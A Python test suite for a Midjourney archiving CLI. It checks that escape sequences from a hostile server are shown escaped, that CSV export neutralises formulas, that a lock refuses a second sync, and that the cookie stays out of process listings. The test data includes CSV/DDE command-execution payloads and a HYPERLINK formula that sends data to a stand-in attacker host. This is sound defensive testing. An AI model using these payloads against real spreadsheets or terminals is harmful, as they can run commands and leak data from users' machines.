#!/usr/bin/python3
# test-safety.py — mj-archiver-cli against a hostile server, a second process and a shared computer
#
# SPDX-License-Identifier: GPL-3.0-or-later
"""What a user notices: escape sequences in prompts never reach the
terminal; a CSV export never runs a formula; a second sync on the same
archive is refused with the first one's pid, and killing it at any moment
leaves the first one's archive exactly as a clean run's; a cookie given
as an argument is hidden from other users, and can come from a file or
standard input instead."""
import csv
import io
import json
import os
import random
import shutil
import signal
import subprocess
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "pylib"))
from mja_testlib import CLI, FakeServer, Tap, archive_files, base_env, cli, remove, temp_dir  # noqa: E402

FIXTURES = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "fixtures")

tap = Tap()


def no_controls(text, what):
    """No ESC, no BEL, no C1 control (U+0080–U+009F) and no DEL."""
    for ch in text:
        code = ord(ch)
        assert not (code < 0x20 and ch not in "\n\t") and code != 0x7f and not (0x80 <= code <= 0x9f), \
            f"{what} printed control character {code:#x}: {text[:400]!r}"


def test_escape_sequences_never_printed():
    with FakeServer("--jobs", "12", "--escape-every", "3", "--seed", "5") as server:
        env = base_env(server)
        archive = temp_dir()
        try:
            sync = cli("sync", "--archive", archive, "--request-interval", "0", env=env)
            assert sync.returncode in (0, 1), sync.stderr
            no_controls(sync.stdout + sync.stderr, "sync")
            # The archive keeps the prompt as the server sent it.
            kept = [f for f in archive_files(archive).values() if b"\x1b]52;" in f or b"\\u001b]52;" in f]
            assert kept, "the hostile prompts did not reach the archive"

            search = cli("search", "--archive", archive, "-n", "0", env=env, check=0)
            no_controls(search.stdout + search.stderr, "search")
            # Shown, escaped: not dropped.
            assert "\\x1b]52;" in search.stdout, search.stdout
            stats = cli("stats", "--archive", archive, env=env, check=0)
            no_controls(stats.stdout + stats.stderr, "stats")
            verify = cli("verify", "--archive", archive, env=env)
            no_controls(verify.stdout + verify.stderr, "verify")
            export = cli("export", "--archive", archive, "-o", os.path.join(archive, "x.csv"), env=env, check=0)
            no_controls(export.stdout + export.stderr, "export")
            # --json is for programs: JSON escapes the controls itself.
            found = json.loads(cli("search", "--json", "--archive", archive, "-n", "0", env=env, check=0).stdout)
            assert any("\x1b]52;" in job["prompt"] for job in found), found

            # A job file that no longer reads as a job: tag's failure quotes
            # its member name ("\377" is a byte that is not UTF-8).
            name = next(n for n in sorted(archive_files(archive)) if n.endswith(".json"))
            with open(os.path.join(archive, name)) as f:
                text = f.read()
            with open(os.path.join(archive, name), "w") as f:
                f.write('{"\\u001b]0;OWNED\\u0007": "\\377", ' + text.lstrip()[1:])
            tag = cli("tag", "--archive", archive, env=env, check=1)
            no_controls(tag.stdout + tag.stderr, "tag")
            assert "\\x1b]0;OWNED\\x07" in tag.stderr, tag.stderr

            # A failing sync quotes the server's message: the legacy era's
            # 403 for another account's user id, with
            # the title, OSC 52, a C1 CSI and a DEL, is shown escaped.
            other = {k: v for k, v in env.items() if k != "MIDJOURNEY_COOKIE"}
            other["MIDJOURNEY_USER_ID"] = "00000000-0000-4000-8000-000000000000"
            refused = cli("sync", "--archive", archive, "--request-interval", "0", env=other)
            assert refused.returncode not in (0, None), refused
            no_controls(refused.stdout + refused.stderr, "a refused sync")
            assert "not allowed to see this user" in refused.stderr, refused.stderr
            assert "\\x1b]52;" in refused.stderr, refused.stderr
        finally:
            remove(archive)


def plant_job(archive, prompt, full_command, job_id=None):
    with open(os.path.join(FIXTURES, "current-diffusion.json")) as f:
        job = json.load(f)
    job["id"] = job_id or job["id"]
    job["full_command"] = full_command
    job["prompt"] = prompt
    day = os.path.join(archive, "2026", "2026-05", "2026-05-01")
    os.makedirs(day, exist_ok=True)
    with open(os.path.join(day, "20260501-105623_" + job["id"] + ".json"), "w") as f:
        json.dump(job, f)


def test_csv_cells_neutralised():
    archive = temp_dir()
    try:
        plant_job(archive, '=HYPERLINK("http://attacker.invalid/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0")
        # The current era's prompt is its command's: one job each.
        plant_job(archive, "", "+1+cmd|' /C calc'!A0", job_id="5aa8ca70-899b-47be-bee7-82e47d0884ff")
        plant_job(archive, "", "-2+3+cmd|' /C notepad'!A0", job_id="5aa8ca70-899b-47be-bee7-82e47d0884fe")
        env = base_env()
        cli("reindex", "--archive", archive, env=env, check=0)
        out = cli("export", "--archive", archive, env=env, check=0).stdout
        rows = list(csv.DictReader(io.StringIO(out)))
        assert len(rows) == 3, out
        for row in rows:
            for column in row:
                assert row[column][:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, row[column])
        cells = {cell for row in rows for cell in (row["prompt"], row["full_command"])}
        assert {"'@SUM(1+1)*cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0", "'-2+3+cmd|' /C notepad'!A0"} <= cells, rows
    finally:
        remove(archive)


def lock_holder(archive):
    try:
        with open(os.path.join(archive, ".mj-archiver", "lock")) as f:
            return int(f.read().strip() or 0)
    except (OSError, ValueError):
        return 0


def wait_for_lock(proc, archive):
    deadline = time.monotonic() + 30
    while lock_holder(archive) != proc.pid:
        assert proc.poll() is None, "the first sync ended before it took the lock"
        assert time.monotonic() < deadline, "the first sync never took the lock"
        time.sleep(0.02)


def test_second_process_refused_and_killed():
    with FakeServer("--jobs", "40", "--seed", "3", "--latency", "200") as server:
        env = base_env(server)
        clean, first = temp_dir(), temp_dir()
        try:
            cli("sync", "--archive", clean, "--request-interval", "0", env=env, check=0)

            proc = subprocess.Popen([CLI, "sync", "--archive", first, "--request-interval", "0"], env=env,
                                    stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
            wait_for_lock(proc, first)
            for command in (["sync"], ["download"], ["reindex"], ["tag"]):
                second = cli(*command, "--archive", first, env=env)
                assert second.returncode == 7, (command, second.returncode, second.stderr)
                said = f"Another sync is running on this archive (pid {proc.pid})"
                assert said in second.stderr, second.stderr

            # A second one killed at random moments while it runs (a refused
            # one is gone in some tens of milliseconds), ten times, each
            # while the first one still syncs.
            rng = random.Random(15)
            hit = 0
            for i in range(10):
                second = subprocess.Popen([CLI, "sync", "--archive", first, "--request-interval", "0"], env=env,
                                          stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
                time.sleep(rng.uniform(0, 0.03))
                assert proc.poll() is None, f"the first sync ended before kill {i + 1} of 10"
                hit += second.poll() is None
                second.kill()
                second.wait()
            assert hit > 0, "every second sync had ended before it was killed"
            out, err = proc.communicate(timeout=240)
            assert proc.returncode == 0, err
            got, want = archive_files(first), archive_files(clean)
            assert sorted(got) == sorted(want), sorted(set(got) ^ set(want))
            different = [name for name in want if got[name] != want[name]]
            assert not different, f"{len(different)} files differ from a clean run's, such as {different[:3]}"
            verify = cli("verify", "--json", "--archive", first, env=env)
            assert verify.returncode == 0, verify.stderr
            report = json.loads(verify.stdout)
            assert report["problems"] == [], report["problems"]
            assert report["checked_images"] > 0, report
        finally:
            remove(clean)
            remove(first)


def test_cookie_from_file_and_stdin():
    with FakeServer("--jobs", "3") as server:
        env = base_env(server)
        cookie = env.pop("MIDJOURNEY_COOKIE")
        home = env["HOME"]
        path = os.path.join(home, "cookie.txt")
        with open(path, "w") as f:
            f.write(cookie + "\n")
        os.chmod(path, 0o600)

        from_file = cli("status", "--cookie-file", path, env=env, check=0)
        assert "Signed in as user" in from_file.stdout and "Warning" not in from_file.stderr, from_file
        from_stdin = cli("status", "--cookie", "-", env=env, input=cookie, check=0)
        assert "Signed in as user" in from_stdin.stdout and "Warning" not in from_stdin.stderr, from_stdin
        empty = cli("status", "--cookie", "-", env=env, input="", check=3)
        assert "standard input" in empty.stdout + empty.stderr, empty
        missing = cli("status", "--cookie-file", path + ".missing", env=env, check=3)
        assert "cookie file" in missing.stdout + missing.stderr, missing

        as_value = cli("status", "--cookie", cookie, env=env, check=0)
        assert "Warning" in as_value.stderr and "cmdline" in as_value.stderr, as_value.stderr


def test_cookie_argument_hidden_while_running():
    with FakeServer("--jobs", "30", "--latency", "400") as server:
        env = base_env(server)
        cookie = env.pop("MIDJOURNEY_COOKIE")
        archive = temp_dir()
        proc = subprocess.Popen([CLI, "sync", "--archive", archive, "--cookie", cookie, "--request-interval", "0"],
                                env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
        try:
            wait_for_lock(proc, archive)
            with open(f"/proc/{proc.pid}/cmdline", "rb") as f:
                cmdline = f.read()
            assert cmdline.startswith(CLI.encode()), cmdline
            secret = cookie.split("=", 1)[-1][:24].encode()
            assert secret not in cmdline, "the cookie is readable in /proc/PID/cmdline"
            with open(f"/proc/{proc.pid}/limits") as f:
                core = [line for line in f if line.startswith("Max core file size")]
            assert core and core[0].split()[4:6] == ["0", "0"], core
        finally:
            proc.send_signal(signal.SIGINT)
            proc.communicate(timeout=60)
            remove(archive)


tap.check("escape sequences never printed", test_escape_sequences_never_printed)
tap.check("csv cells neutralised", test_csv_cells_neutralised)
tap.check("second process refused and killed", test_second_process_refused_and_killed)
tap.check("cookie from file and stdin", test_cookie_from_file_and_stdin)
tap.check("cookie argument hidden while running", test_cookie_argument_hidden_while_running)
tap.done()
